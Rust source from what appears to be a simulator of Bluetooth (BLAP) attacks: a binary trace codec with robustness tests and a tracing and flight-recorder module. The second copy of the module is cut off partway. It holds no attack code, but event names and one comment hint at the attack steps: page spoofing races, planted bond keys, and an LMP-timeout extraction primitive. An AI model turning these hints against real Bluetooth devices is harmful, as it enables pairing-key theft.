            if byte & 0x80 == 0 {
                return Ok(value);
            }
        }
        Err(format!("varint {what} runs past 10 bytes"))
    }

    fn string(&mut self, what: &str) -> Result<String, String> {
        let len = self.varint(what)?;
        let len = usize::try_from(len)
            .ok()
            .filter(|&l| l <= self.buf.len() - self.pos)
            .ok_or_else(|| format!("string {what} length {len} exceeds the payload"))?;
        let bytes = &self.buf[self.pos..self.pos + len];
        self.pos += len;
        String::from_utf8(bytes.to_vec()).map_err(|_| format!("string {what} is not valid UTF-8"))
    }
}

/// Streaming binary trace writer: stamps [`MAGIC`], then one length-
/// prefixed frame per [`FrameWriter::write_frame`] call.
pub struct FrameWriter<W: Write> {
    inner: W,
    scratch: Vec<u8>,
}

impl<W: Write> FrameWriter<W> {
    /// Wraps `inner`, writing the stream magic immediately.
    pub fn new(mut inner: W) -> io::Result<FrameWriter<W>> {
        inner.write_all(&MAGIC)?;
        Ok(FrameWriter {
            inner,
            scratch: Vec::with_capacity(128),
        })
    }

    /// Appends one frame.
    pub fn write_frame(&mut self, frame: &Frame) -> io::Result<()> {
        self.scratch.clear();
        frame.encode_payload(&mut self.scratch);
        let mut prefix = Vec::with_capacity(4);
        put_varint(&mut prefix, self.scratch.len() as u64);
        self.inner.write_all(&prefix)?;
        self.inner.write_all(&self.scratch)
    }

    /// Flushes and returns the underlying writer.
    pub fn finish(mut self) -> io::Result<W> {
        self.inner.flush()?;
        Ok(self.inner)
    }
}

/// Streaming binary trace reader: checks [`MAGIC`] up front, then yields
/// frames until a clean end of stream. A stream that ends inside a
/// length prefix or a payload (torn final frame from a killed writer) is
/// a [`CodecError`], not a silent stop.
#[derive(Debug)]
pub struct FrameReader<R: Read> {
    inner: R,
    /// 0-based index of the next frame to read (error attribution).
    frame_no: usize,
}

impl<R: Read> FrameReader<R> {
    /// Wraps `inner`, consuming and verifying the stream magic.
    pub fn new(mut inner: R) -> Result<FrameReader<R>, CodecError> {
        let mut magic = [0u8; 8];
        read_full(&mut inner, &mut magic).map_err(|partial| CodecError {
            frame: 0,
            message: match partial {
                Some(n) => format!("stream ends after {n} byte(s), before the 8-byte magic"),
                None => "unreadable stream magic".to_owned(),
            },
            truncated: partial.is_some(),
        })?;
        if magic != MAGIC {
            return Err(CodecError {
                frame: 0,
                message: format!("bad magic {magic:02x?}, want {MAGIC:02x?} (\"BLAPTRC1\")"),
                truncated: false,
            });
        }
        Ok(FrameReader { inner, frame_no: 0 })
    }

    /// Reads the next frame; `Ok(None)` on a clean end of stream.
    pub fn next_frame(&mut self) -> Result<Option<Frame>, CodecError> {
        let err = |message: String| CodecError {
            frame: self.frame_no,
            message,
            truncated: false,
        };
        let torn = |message: String| CodecError {
            frame: self.frame_no,
            message,
            truncated: true,
        };
        // Length prefix, byte at a time: EOF before the first byte is a
        // clean end; EOF inside the varint is a torn frame.
        let mut len = 0u64;
        let mut shift = 0u32;
        loop {
            let mut byte = [0u8; 1];
            match self.inner.read(&mut byte) {
                Ok(0) if shift == 0 => return Ok(None),
                Ok(0) => return Err(torn("stream ends inside a frame length prefix".to_owned())),
                Ok(_) => {
                    let bits = u64::from(byte[0] & 0x7f);
                    if shift >= 63 && bits > 1 {
                        return Err(err("frame length prefix overflows u64".to_owned()));
                    }
                    len |= bits << shift;
                    if byte[0] & 0x80 == 0 {
                        break;
                    }
                    shift += 7;
                    if shift > 63 {
                        return Err(err("frame length prefix runs past 10 bytes".to_owned()));
                    }
                }
                Err(e) if e.kind() == io::ErrorKind::Interrupted => continue,
                Err(e) => return Err(err(format!("read error: {e}"))),
            }
        }
        if len > MAX_PAYLOAD {
            return Err(err(format!(
                "frame payload length {len} exceeds the {MAX_PAYLOAD}-byte limit"
            )));
        }
        let mut payload = vec![0u8; len as usize];
        read_full(&mut self.inner, &mut payload).map_err(|partial| match partial {
            Some(n) => torn(format!(
                "stream ends {} byte(s) into a {len}-byte frame payload (torn frame)",
                n
            )),
            None => err("read error inside a frame payload".to_owned()),
        })?;
        let frame = Frame::decode_payload(&payload).map_err(err)?;
        self.frame_no += 1;
        Ok(Some(frame))
    }
}

/// Reads exactly `buf.len()` bytes. On failure returns `Some(n)` with the
/// number of bytes that were read before EOF, or `None` for an I/O error.
fn read_full<R: Read>(inner: &mut R, buf: &mut [u8]) -> Result<(), Option<usize>> {
    let mut filled = 0;
    while filled < buf.len() {
        match inner.read(&mut buf[filled..]) {
            Ok(0) => return Err(Some(filled)),
            Ok(n) => filled += n,
            Err(e) if e.kind() == io::ErrorKind::Interrupted => {}
            Err(_) => return Err(None),
        }
    }
    Ok(())
}

/// An in-memory binary-trace [`TraceSink`] — the [`MAGIC`]-stamped
/// counterpart of [`crate::trace::JsonlBuffer`]. Clone it before
/// attaching to keep a handle for [`BinaryBuffer::contents`].
#[derive(Clone)]
pub struct BinaryBuffer {
    inner: Arc<Mutex<Vec<u8>>>,
}

impl BinaryBuffer {
    /// A fresh buffer holding just the stream magic.
    pub fn new() -> BinaryBuffer {
        BinaryBuffer {
            inner: Arc::new(Mutex::new(MAGIC.to_vec())),
        }
    }

    /// A copy of the accumulated stream (magic included) — a complete
    /// binary trace artifact.
    pub fn contents(&self) -> Vec<u8> {
        self.inner.lock().expect("binary buffer lock").clone()
    }
}

impl Default for BinaryBuffer {
    fn default() -> BinaryBuffer {
        BinaryBuffer::new()
    }
}

impl TraceSink for BinaryBuffer {
    fn record(&mut self, device: Option<u32>, event: &TraceEvent) {
        let frame = Frame::from_event(device, event);
        let mut payload = Vec::with_capacity(64);
        frame.encode_payload(&mut payload);
        let mut buf = self.inner.lock().expect("binary buffer lock");
        put_varint(&mut buf, payload.len() as u64);
        buf.extend_from_slice(&payload);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use blap_types::Instant;

    fn sample_frames() -> Vec<Frame> {
        let lines = [
            "{\"t\":0,\"ev\":\"unit_start\",\"unit\":0,\"label\":\"trial_pair\"}",
            "{\"t\":0,\"ev\":\"span_open\",\"span\":1,\"name\":\"trial\",\"detail\":\"blocking\"}",
            "{\"t\":5,\"dev\":2,\"ev\":\"span_open\",\"span\":2,\"parent\":1,\"name\":\"page\"}",
            "{\"t\":10,\"dev\":0,\"ev\":\"dispatch\",\"seq\":7,\"kind\":\"PageScan\"}",
            "{\"t\":12,\"dev\":0,\"ev\":\"page_start\",\"target\":\"aa:aa:aa:aa:aa:aa\"}",
            "{\"t\":20,\"dev\":0,\"ev\":\"page_connect\",\"target\":\"aa:aa:aa:aa:aa:aa\",\"responder\":2,\"latency_us\":1250,\"raced\":true}",
            "{\"t\":21,\"dev\":1,\"ev\":\"page_timeout\",\"target\":\"bb:bb:bb:bb:bb:bb\"}",
            "{\"t\":22,\"ev\":\"race\",\"target\":\"aa:aa:aa:aa:aa:aa\",\"attacker_won\":false}",
            "{\"t\":23,\"dev\":1,\"ev\":\"scan\",\"page_scan\":true,\"inquiry_scan\":false}",
            "{\"t\":30,\"dev\":0,\"ev\":\"lmp_send\",\"peer\":\"cc:cc:cc:cc:cc:cc\",\"pdu\":\"LMP_au_rand\"}",
            "{\"t\":1280,\"dev\":1,\"ev\":\"lmp_recv\",\"peer\":\"cc:cc:cc:cc:cc:cc\",\"pdu\":\"LMP_au_rand\"}",
            "{\"t\":1300,\"dev\":1,\"ev\":\"lmp_timeout\",\"peer\":\"cc:cc:cc:cc:cc:cc\"}",
            "{\"t\":1400,\"dev\":0,\"ev\":\"hci\",\"dir\":\"sent\",\"kind\":\"command\",\"name\":\"Create_Connection\"}",
            "{\"t\":1500,\"dev\":1,\"ev\":\"link_drop\",\"reason\":\"supervision_timeout\"}",
            "{\"t\":1600,\"dev\":0,\"ev\":\"keystore\",\"peer\":\"cc:cc:cc:cc:cc:cc\",\"action\":\"store\"}",
            "{\"t\":1700,\"ev\":\"attack_phase\",\"label\":\"ploc_hold\"}",
            "{\"t\":1800,\"ev\":\"warning\",\"message\":\"odd \\\"quoted\\\" message\\nwith newline\"}",
            "{\"t\":1900,\"dev\":2,\"ev\":\"span_close\",\"span\":2,\"status\":\"connected\"}",
            "{\"t\":18446744073709551615,\"ev\":\"span_close\",\"span\":1,\"status\":\"attacker_lost\"}",
        ];
        lines
            .iter()
            .map(|l| Frame::from_jsonl(l).expect(l))
            .collect()
    }

    #[test]
    fn every_kind_round_trips_binary_and_jsonl() {
        let frames = sample_frames();
        let mut writer = FrameWriter::new(Vec::new()).expect("vec write");
        for frame in &frames {
            writer.write_frame(frame).expect("vec write");
        }
        let bytes = writer.finish().expect("vec flush");
        assert!(is_binary(&bytes));
        let mut reader = FrameReader::new(&bytes[..]).expect("magic");
        let mut decoded = Vec::new();
        while let Some(frame) = reader.next_frame().expect("well-formed stream") {
            decoded.push(frame);
        }
        assert_eq!(decoded, frames);
        // And each decoded frame re-renders to the original line bytes.
        for frame in &decoded {
            let mut line = String::new();
            frame.render_jsonl(&mut line);
            assert_eq!(Frame::from_jsonl(&line).expect("canonical"), *frame);
        }
    }

    #[test]
    fn binary_buffer_sink_matches_frame_writer() {
        let tracer = crate::trace::Tracer::new();
        let jsonl = crate::trace::JsonlBuffer::new();
        let bin = BinaryBuffer::new();
        tracer.attach(jsonl.clone());
        tracer.attach(bin.clone());
        tracer.emit(TraceEvent::AttackPhase {
            time: Instant::from_micros(40),
            label: "ploc_hold",
        });
        let scoped = tracer.scoped(3);
        scoped.emit(TraceEvent::LinkDropped {
            time: Instant::from_micros(99),
            reason: "detach",
        });
        // Decoding the binary buffer reproduces the JSONL buffer exactly.
        let bytes = bin.contents();
        let mut reader = FrameReader::new(&bytes[..]).expect("magic");
        let mut rebuilt = String::new();
        while let Some(frame) = reader.next_frame().expect("well-formed") {
            frame.render_jsonl(&mut rebuilt);
            rebuilt.push('\n');
        }
        assert_eq!(rebuilt, jsonl.contents());
    }

    #[test]
    fn non_canonical_lines_are_rejected() {
        // Leading-zero number.
        assert!(Frame::from_jsonl("{\"t\":007,\"ev\":\"attack_phase\",\"label\":\"x\"}").is_err());
        // Reordered keys.
        assert!(Frame::from_jsonl("{\"ev\":\"attack_phase\",\"t\":7,\"label\":\"x\"}").is_err());
        // Extra key.
        assert!(
            Frame::from_jsonl("{\"t\":7,\"ev\":\"attack_phase\",\"label\":\"x\",\"z\":1}").is_err()
        );
        // Unknown event kind.
        assert!(Frame::from_jsonl("{\"t\":7,\"ev\":\"nonsense\"}").is_err());
        // The canonical spelling passes.
        assert!(Frame::from_jsonl("{\"t\":7,\"ev\":\"attack_phase\",\"label\":\"x\"}").is_ok());
    }

    #[test]
    fn torn_streams_error_instead_of_truncating() {
        let mut writer = FrameWriter::new(Vec::new()).expect("vec write");
        for frame in sample_frames() {
            writer.write_frame(&frame).expect("vec write");
        }
        let bytes = writer.finish().expect("vec flush");
        // Chopping anywhere strictly inside the stream must yield an error
        // (never a clean end, never a panic) — except exactly at frame
        // boundaries, where the stream is validly shorter.
        let mut boundary_ends = 0;
        for cut in 0..bytes.len() {
            let mut reader = match FrameReader::new(&bytes[..cut]) {
                Ok(reader) => reader,
                Err(e) => {
                    assert!(cut < MAGIC.len(), "magic failed at cut {cut}: {e}");
                    continue;
                }
            };
            let mut result = Ok(());
            loop {
                match reader.next_frame() {
                    Ok(Some(_)) => {}
                    Ok(None) => break,
                    Err(e) => {
                        result = Err(e);
                        break;
                    }
                }
            }
            if result.is_ok() {
                boundary_ends += 1;
            }
        }
        // Only frame boundaries (one per frame, counting the bare magic)
        // read cleanly.
        assert_eq!(boundary_ends, sample_frames().len());
    }

    #[test]
    fn trailing_payload_bytes_are_rejected() {
        let frame = Frame {
            t: 7,
            dev: None,
            kind: FrameKind::AttackPhase {
                label: "x".to_owned(),
            },
        };
        let mut payload = Vec::new();
        frame.encode_payload(&mut payload);
        payload.push(0); // one stray byte inside the declared length
        let mut bytes = MAGIC.to_vec();
        put_varint(&mut bytes, payload.len() as u64);
        bytes.extend_from_slice(&payload);
        let mut reader = FrameReader::new(&bytes[..]).expect("magic");
        let err = reader.next_frame().expect_err("stray byte must error");
        assert!(err.message.contains("trailing"), "{err}");
    }

    #[test]
    fn oversized_length_prefix_is_rejected_without_allocating() {
        let mut bytes = MAGIC.to_vec();
        put_varint(&mut bytes, u64::MAX);
        let mut reader = FrameReader::new(&bytes[..]).expect("magic");
        let err = reader.next_frame().expect_err("absurd length must error");
        assert!(err.message.contains("exceeds"), "{err}");
    }

    #[test]
    fn bad_magic_is_rejected() {
        let err = FrameReader::new(&b"NOTMAGIC rest"[..]).expect_err("bad magic");
        assert!(err.message.contains("bad magic"), "{err}");
        let err = FrameReader::new(&b"BLA"[..]).expect_err("short magic");
        assert!(err.message.contains("before the 8-byte magic"), "{err}");
        assert!(!is_binary(b"{\"t\":0"));
        assert!(!is_binary(b"BLA"));
        assert!(is_binary(b"BLAPTRC1\x00"));
    }
}
