//! Structured tracing: typed events, sinks, and the flight recorder.
//!
//! Events are stamped with **virtual** time ([`Instant`]) at the emission
//! site, never with wall-clock time, so a trace is a pure function of the
//! world seed: byte-identical across runs, machines, and worker counts.
//! The [`Tracer`] handle is cheap to clone and cheap to ignore — a disabled
//! tracer is one `Option` discriminant check per call site.

use std::collections::VecDeque;
use std::fmt::Write as _;
use std::sync::{Arc, Mutex};

use blap_types::{BdAddr, Instant};

/// One typed trace event.
///
/// Variants mirror the seams the BLAP attacks are diagnosed from: the
/// scheduler, the baseband page/scan machinery, the LMP channel, the HCI
/// transport, the bond store, and the attack drivers themselves.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum TraceEvent {
    /// The world scheduler dispatched one queued event.
    SchedulerDispatch {
        /// Virtual dispatch time.
        time: Instant,
        /// Scheduling sequence number (tiebreaker order).
        seq: u64,
        /// Event kind name.
        kind: &'static str,
    },
    /// A device started paging a target address.
    PageStarted {
        /// Virtual time.
        time: Instant,
        /// Paged (claimed) address.
        target: BdAddr,
    },
    /// A page resolved to a responder.
    PageConnected {
        /// Virtual time of resolution.
        time: Instant,
        /// Paged address.
        target: BdAddr,
        /// Winning responder's device index.
        responder: u32,
        /// Sampled page latency in microseconds.
        latency_us: u64,
        /// Whether two listeners raced for the page.
        raced: bool,
    },
    /// A page found no responder and will time out.
    PageTimeout {
        /// Virtual time.
        time: Instant,
        /// Paged address.
        target: BdAddr,
    },
    /// Outcome of a two-listener page race (the Table II baseline event).
    RaceOutcome {
        /// Virtual time.
        time: Instant,
        /// Raced address.
        target: BdAddr,
        /// Whether the spoofing attacker won.
        attacker_won: bool,
    },
    /// A controller's scan state changed.
    ScanTransition {
        /// Virtual time.
        time: Instant,
        /// New page-scan state.
        page_scan: bool,
        /// New inquiry-scan state.
        inquiry_scan: bool,
    },
    /// An LMP PDU was queued for the peer.
    LmpSend {
        /// Virtual time.
        time: Instant,
        /// Claimed peer address.
        peer: BdAddr,
        /// PDU name.
        pdu: &'static str,
    },
    /// An LMP PDU arrived from the peer.
    LmpRecv {
        /// Virtual time.
        time: Instant,
        /// Claimed peer address.
        peer: BdAddr,
        /// PDU name.
        pdu: &'static str,
    },
    /// An LMP procedure died by response timeout (the §IV-C extraction
    /// primitive: disconnect *without* authentication failure).
    LmpTimeout {
        /// Virtual time.
        time: Instant,
        /// Claimed peer address.
        peer: BdAddr,
    },
    /// A packet crossed the HCI seam of a device.
    HciSeam {
        /// Virtual time.
        time: Instant,
        /// `"sent"` (host→controller) or `"received"`.
        direction: &'static str,
        /// Packet kind: `"command"`, `"event"` or `"acl"`.
        kind: &'static str,
        /// Command/event name (`"acl"` packets carry the handle instead).
        name: &'static str,
    },
    /// A link died (supervision timeout, detach).
    LinkDropped {
        /// Virtual time.
        time: Instant,
        /// Why the link dropped.
        reason: &'static str,
    },
    /// The bond store changed.
    KeystoreMutation {
        /// Virtual time.
        time: Instant,
        /// Peer whose bond changed.
        peer: BdAddr,
        /// `"store"`, `"remove"` or `"install"` (attacker-planted).
        action: &'static str,
    },
    /// An attack driver crossed a phase boundary.
    AttackPhase {
        /// Virtual time.
        time: Instant,
        /// Phase label (e.g. `"ploc_hold"`, `"fig9_drop_link_key_request"`).
        label: &'static str,
    },
    /// A non-fatal configuration or runtime warning.
    Warning {
        /// Virtual time (EPOCH for pre-simulation warnings).
        time: Instant,
        /// Human-readable message.
        message: String,
    },
    /// Marks the start of one experiment unit in a concatenated trace.
    UnitStart {
        /// Unit index within the experiment.
        unit: u64,
        /// Condition label (e.g. `"baseline"`, `"blocking"`).
        label: &'static str,
    },
}

impl TraceEvent {
    /// The event's virtual timestamp ([`Instant::EPOCH`] for unit markers).
    pub fn time(&self) -> Instant {
        match self {
            TraceEvent::SchedulerDispatch { time, .. }
            | TraceEvent::PageStarted { time, .. }
            | TraceEvent::PageConnected { time, .. }
            | TraceEvent::PageTimeout { time, .. }
            | TraceEvent::RaceOutcome { time, .. }
            | TraceEvent::ScanTransition { time, .. }
            | TraceEvent::LmpSend { time, .. }
            | TraceEvent::LmpRecv { time, .. }
            | TraceEvent::LmpTimeout { time, .. }
            | TraceEvent::HciSeam { time, .. }
            | TraceEvent::LinkDropped { time, .. }
            | TraceEvent::KeystoreMutation { time, .. }
            | TraceEvent::AttackPhase { time, .. }
            | TraceEvent::Warning { time, .. } => *time,
            TraceEvent::UnitStart { .. } => Instant::EPOCH,
        }
    }

    /// Renders the event as one JSONL object (no trailing newline).
    ///
    /// Key order is fixed so output is byte-comparable. `device` is the
    /// emitting device's world index, when the tracer was scoped to one.
    pub fn render_jsonl(&self, device: Option<u32>, out: &mut String) {
        let t = self.time().as_micros();
        let _ = write!(out, "{{\"t\":{t}");
        if let Some(dev) = device {
            let _ = write!(out, ",\"dev\":{dev}");
        }
        match self {
            TraceEvent::SchedulerDispatch { seq, kind, .. } => {
                let _ = write!(
                    out,
                    ",\"ev\":\"dispatch\",\"seq\":{seq},\"kind\":\"{kind}\""
                );
            }
            TraceEvent::PageStarted { target, .. } => {
                let _ = write!(out, ",\"ev\":\"page_start\",\"target\":\"{target}\"");
            }
            TraceEvent::PageConnected {
                target,
                responder,
                latency_us,
                raced,
                ..
            } => {
                let _ = write!(
                    out,
                    ",\"ev\":\"page_connect\",\"target\":\"{target}\",\"responder\":{responder},\"latency_us\":{latency_us},\"raced\":{raced}"
                );
            }
            TraceEvent::PageTimeout { target, .. } => {
                let _ = write!(out, ",\"ev\":\"page_timeout\",\"target\":\"{target}\"");
            }
            TraceEvent::RaceOutcome {
                target,
                attacker_won,
                ..
            } => {
                let _ = write!(
                    out,
                    ",\"ev\":\"race\",\"target\":\"{target}\",\"attacker_won\":{attacker_won}"
                );
            }
            TraceEvent::ScanTransition {
                page_scan,
                inquiry_scan,
                ..
            } => {
                let _ = write!(
                    out,
                    ",\"ev\":\"scan\",\"page_scan\":{page_scan},\"inquiry_scan\":{inquiry_scan}"
                );
            }
            TraceEvent::LmpSend { peer, pdu, .. } => {
                let _ = write!(
                    out,
                    ",\"ev\":\"lmp_send\",\"peer\":\"{peer}\",\"pdu\":\"{pdu}\""
                );
            }
            TraceEvent::LmpRecv { peer, pdu, .. } => {
                let _ = write!(
                    out,
                    ",\"ev\":\"lmp_recv\",\"peer\":\"{peer}\",\"pdu\":\"{pdu}\""
                );
            }
            TraceEvent::LmpTimeout { peer, .. } => {
                let _ = write!(out, ",\"ev\":\"lmp_timeout\",\"peer\":\"{peer}\"");
            }
            TraceEvent::HciSeam {
                direction,
                kind,
                name,
                ..
            } => {
                let _ = write!(
                    out,
                    ",\"ev\":\"hci\",\"dir\":\"{direction}\",\"kind\":\"{kind}\",\"name\":\"{name}\""
                );
            }
            TraceEvent::LinkDropped { reason, .. } => {
                let _ = write!(out, ",\"ev\":\"link_drop\",\"reason\":\"{reason}\"");
            }
            TraceEvent::KeystoreMutation { peer, action, .. } => {
                let _ = write!(
                    out,
                    ",\"ev\":\"keystore\",\"peer\":\"{peer}\",\"action\":\"{action}\""
                );
            }
            TraceEvent::AttackPhase { label, .. } => {
                let _ = write!(out, ",\"ev\":\"attack_phase\",\"label\":\"{label}\"");
            }
            TraceEvent::Warning { message, .. } => {
                out.push_str(",\"ev\":\"warning\",\"message\":\"");
                escape_into(message, out);
                out.push('"');
            }
            TraceEvent::UnitStart { unit, label, .. } => {
                let _ = write!(
                    out,
                    ",\"ev\":\"unit_start\",\"unit\":{unit},\"label\":\"{label}\""
                );
            }
        }
        out.push('}');
    }
}

/// Escapes a string for embedding in a JSON string literal.
fn escape_into(s: &str, out: &mut String) {
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if (c as u32) < 0x20 => {
                let _ = write!(out, "\\u{:04x}", c as u32);
            }
            c => out.push(c),
        }
    }
}

/// A consumer of trace events.
///
/// Sinks run under the tracer's lock, so implementations should be quick;
/// both provided sinks just append to an in-memory buffer.
pub trait TraceSink: Send {
    /// Records one event. `device` is the emitting device's world index
    /// when the tracer handle was scoped with [`Tracer::scoped`].
    fn record(&mut self, device: Option<u32>, event: &TraceEvent);
}

struct TracerShared {
    sinks: Mutex<Vec<Box<dyn TraceSink>>>,
}

/// A cloneable handle that fans events out to attached sinks.
///
/// The default handle is **disabled**: [`Tracer::emit`] is one `Option`
/// check and call sites guard event construction behind
/// [`Tracer::enabled`], so instrumented hot paths cost nothing measurable
/// when observability is off.
#[derive(Clone, Default)]
pub struct Tracer {
    shared: Option<Arc<TracerShared>>,
    device: Option<u32>,
}

impl std::fmt::Debug for Tracer {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Tracer")
            .field("enabled", &self.enabled())
            .field("device", &self.device)
            .finish()
    }
}

impl Tracer {
    /// An enabled tracer with no sinks yet (attach with [`Tracer::attach`]).
    pub fn new() -> Tracer {
        Tracer {
            shared: Some(Arc::new(TracerShared {
                sinks: Mutex::new(Vec::new()),
            })),
            device: None,
        }
    }

    /// The disabled tracer (same as `Tracer::default()`).
    pub fn disabled() -> Tracer {
        Tracer::default()
    }

    /// Whether events will reach any sink.
    #[inline]
    pub fn enabled(&self) -> bool {
        self.shared.is_some()
    }

    /// Attaches a sink; all clones of this tracer feed it from now on.
    ///
    /// No-op on a disabled tracer.
    pub fn attach<S: TraceSink + 'static>(&self, sink: S) {
        if let Some(shared) = &self.shared {
            shared
                .sinks
                .lock()
                .expect("tracer lock")
                .push(Box::new(sink));
        }
    }

    /// A clone scoped to one device index: events it emits are attributed
    /// to that device in rendered output.
    pub fn scoped(&self, device: usize) -> Tracer {
        Tracer {
            shared: self.shared.clone(),
            device: Some(device as u32),
        }
    }

    /// Emits one event to every attached sink.
    #[inline]
    pub fn emit(&self, event: TraceEvent) {
        if let Some(shared) = &self.shared {
            let mut sinks = shared.sinks.lock().expect("tracer lock");
            for sink in sinks.iter_mut() {
                sink.record(self.device, &event);
            }
        }
    }
}

struct RecorderInner {
    capacity: usize,
    lines: VecDeque<String>,
    total: u64,
}

/// A fixed-capacity ring buffer of rendered events — the flight recorder.
///
/// Keeps the last `capacity` events; [`FlightRecorder::dump_on_assert`]
/// arms a guard that prints them when a test assertion (any panic) unwinds
/// through its scope, which turns "trial 17 failed" into the actual event
/// tail that led there.
#[derive(Clone)]
pub struct FlightRecorder {
    inner: Arc<Mutex<RecorderInner>>,
}

impl FlightRecorder {
    /// A recorder keeping the last `capacity` events (at least 1).
    pub fn new(capacity: usize) -> FlightRecorder {
        FlightRecorder {
            inner: Arc::new(Mutex::new(RecorderInner {
                capacity: capacity.max(1),
                lines: VecDeque::new(),
                total: 0,
            })),
        }
    }

    /// Total events ever recorded (including evicted ones).
    pub fn total_recorded(&self) -> u64 {
        self.inner.lock().expect("recorder lock").total
    }

    /// Events currently held (≤ capacity).
    pub fn len(&self) -> usize {
        self.inner.lock().expect("recorder lock").lines.len()
    }

    /// Whether nothing has been recorded yet.
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }

    /// The last `n` rendered events, oldest first.
    pub fn last(&self, n: usize) -> Vec<String> {
        let inner = self.inner.lock().expect("recorder lock");
        let skip = inner.lines.len().saturating_sub(n);
        inner.lines.iter().skip(skip).cloned().collect()
    }

    /// A human-readable dump of the last `n` events.
    pub fn dump(&self, n: usize) -> String {
        let lines = self.last(n);
        let mut out = String::new();
        let _ = writeln!(
            out,
            "--- flight recorder: last {} of {} events ---",
            lines.len(),
            self.total_recorded()
        );
        for line in &lines {
            out.push_str(line);
            out.push('\n');
        }
        out.push_str("--- end flight recorder ---");
        out
    }

    /// Arms a [`DumpOnAssert`] guard: if a panic (failed `assert!`)
    /// unwinds while the guard is alive, the last `n` events are printed
    /// to stderr alongside the assertion message.
    pub fn dump_on_assert(&self, n: usize) -> DumpOnAssert {
        DumpOnAssert {
            recorder: self.clone(),
            n,
        }
    }
}

impl TraceSink for FlightRecorder {
    fn record(&mut self, device: Option<u32>, event: &TraceEvent) {
        let mut line = String::with_capacity(64);
        event.render_jsonl(device, &mut line);
        let mut inner = self.inner.lock().expect("recorder lock");
        inner.total += 1;
        if inner.lines.len() == inner.capacity {
            inner.lines.pop_front();
        }
        inner.lines.push_back(line);
    }
}

/// Guard returned by [`FlightRecorder::dump_on_assert`]. On drop during a
/// panic it prints the recorder tail to stderr; on normal drop it is
/// silent.
pub struct DumpOnAssert {
    recorder: FlightRecorder,
    n: usize,
}

impl Drop for DumpOnAssert {
    fn drop(&mut self) {
        if std::thread::panicking() {
            eprintln!("{}", self.recorder.dump(self.n));
        }
    }
}

/// A sink that appends rendered events as JSONL into a shared string
/// buffer. Clone it before attaching to keep a read handle.
#[derive(Clone, Default)]
pub struct JsonlBuffer {
    inner: Arc<Mutex<String>>,
}

impl JsonlBuffer {
    /// An empty buffer.
    pub fn new() -> JsonlBuffer {
        JsonlBuffer::default()
    }

    /// The accumulated JSONL text (one event per line).
    pub fn contents(&self) -> String {
        self.inner.lock().expect("jsonl lock").clone()
    }

    /// Whether any event has been recorded.
    pub fn is_empty(&self) -> bool {
        self.inner.lock().expect("jsonl lock").is_empty()
    }
}

impl TraceSink for JsonlBuffer {
    fn record(&mut self, device: Option<u32>, event: &TraceEvent) {
        let mut buf = self.inner.lock().expect("jsonl lock");
        event.render_jsonl(device, &mut buf);
        buf.push('\n');
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn addr() -> BdAddr {
        "cc:cc:cc:cc:cc:cc".parse().expect("valid address")
    }

    #[test]
    fn disabled_tracer_is_inert() {
        let tracer = Tracer::disabled();
        assert!(!tracer.enabled());
        tracer.emit(TraceEvent::AttackPhase {
            time: Instant::EPOCH,
            label: "noop",
        });
        // Attaching to a disabled tracer is a no-op, not a panic.
        tracer.attach(JsonlBuffer::new());
    }

    #[test]
    fn jsonl_buffer_renders_fixed_key_order() {
        let tracer = Tracer::new();
        let buf = JsonlBuffer::new();
        tracer.attach(buf.clone());
        tracer.scoped(2).emit(TraceEvent::LmpSend {
            time: Instant::from_micros(1250),
            peer: addr(),
            pdu: "LMP_au_rand",
        });
        assert_eq!(
            buf.contents(),
            "{\"t\":1250,\"dev\":2,\"ev\":\"lmp_send\",\"peer\":\"cc:cc:cc:cc:cc:cc\",\"pdu\":\"LMP_au_rand\"}\n"
        );
    }

    #[test]
    fn warning_messages_are_escaped() {
        let mut out = String::new();
        TraceEvent::Warning {
            time: Instant::EPOCH,
            message: "quote \" slash \\ newline \n".to_owned(),
        }
        .render_jsonl(None, &mut out);
        assert_eq!(
            out,
            "{\"t\":0,\"ev\":\"warning\",\"message\":\"quote \\\" slash \\\\ newline \\n\"}"
        );
    }

    #[test]
    fn flight_recorder_keeps_last_n() {
        let tracer = Tracer::new();
        let recorder = FlightRecorder::new(3);
        tracer.attach(recorder.clone());
        for i in 0..10u64 {
            tracer.emit(TraceEvent::SchedulerDispatch {
                time: Instant::from_micros(i * 625),
                seq: i,
                kind: "TimerFire",
            });
        }
        assert_eq!(recorder.total_recorded(), 10);
        assert_eq!(recorder.len(), 3);
        let tail = recorder.last(2);
        assert_eq!(tail.len(), 2);
        assert!(tail[0].contains("\"seq\":8"), "{:?}", tail);
        assert!(tail[1].contains("\"seq\":9"), "{:?}", tail);
        assert!(recorder.dump(2).contains("last 2 of 10 events"));
    }

    #[test]
    fn dump_on_assert_silent_on_success() {
        let recorder = FlightRecorder::new(4);
        let _guard = recorder.dump_on_assert(4);
        // Dropping without a panic must not print or panic.
    }

    #[test]
    fn scoped_tracers_share_sinks() {
        let tracer = Tracer::new();
        let buf = JsonlBuffer::new();
        tracer.attach(buf.clone());
        let scoped = tracer.scoped(5);
        scoped.emit(TraceEvent::PageTimeout {
            time: Instant::from_micros(100),
            target: addr(),
        });
        tracer.emit(TraceEvent::PageStarted {
            time: Instant::from_micros(200),
            target: addr(),
        });
        let text = buf.contents();
        let lines: Vec<&str> = text.lines().collect();
        assert_eq!(lines.len(), 2);
        assert!(lines[0].contains("\"dev\":5"));
        assert!(
            !lines[1].contains("\"dev\""),
            "unscoped line has no dev key"
        );
    }
}
