//! Structured tracing: typed events, sinks, and the flight recorder.
//!
//! Events are stamped with **virtual** time ([`Instant`]) at the emission
//! site, never with wall-clock time, so a trace is a pure function of the
//! world seed: byte-identical across runs, machines, and worker counts.
//! The [`Tracer`] handle is cheap to clone and cheap to ignore — a disabled
//! tracer is one `Option` discriminant check per call site.

use std::collections::VecDeque;
use std::fmt::Write as _;
use std::sync::{Arc, Mutex};

use blap_types::{BdAddr, Instant};

use crate::json::{esc, escape_into};
use crate::span::{SpanId, SpanState};

/// One typed trace event.
///
/// Variants mirror the seams the BLAP attacks are diagnosed from: the
/// scheduler, the baseband page/scan machinery, the LMP channel, the HCI
/// transport, the bond store, and the attack drivers themselves.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum TraceEvent {
